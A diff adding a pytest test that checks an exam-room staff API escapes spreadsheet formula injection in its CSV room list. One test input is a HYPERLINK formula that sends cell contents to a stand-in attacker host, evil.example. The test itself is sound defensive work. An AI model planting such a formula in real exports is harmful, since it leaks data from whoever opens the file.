@@ -124,3 +124,25 @@ def test_staff_list_the_rooms_of_their_scope(world, room, api_as):
     body = api_as("sh_site").get("/api/v1/staff/rooms/").json()
     assert [(line["id"], line["dates"]) for line in body["results"]] == [(room.pk, [world.exam.exam_date.isoformat()])]
     assert api_as("admin").get("/api/v1/staff/rooms/").json()["count"] == 2
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
+    ids=["hyperlink", "plus", "minus", "at", "tab"],
+)
+def test_a_formula_typed_as_a_name_or_a_room_is_written_as_text_in_the_room_list(world, room, api_as, typed):
+    """OWASP CSV injection: the list is opened in spreadsheets, where a cell starting with = + - @ runs."""
+    candidate = room.applications[0].candidate
+    candidate.name = typed
+    candidate.save()
+    room.name = typed
+    room.save()
+
+    response = api_as("admin").get(ROOM_LIST.format(room=room.pk))
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0]["name"] == "'" + typed
+    assert {row["room"] for row in rows} == {"'" + typed}
+    assert rows[1]["name"] == "李四"  # ordinary text stays as it is
+    assert rows[0]["seat"] == "01"
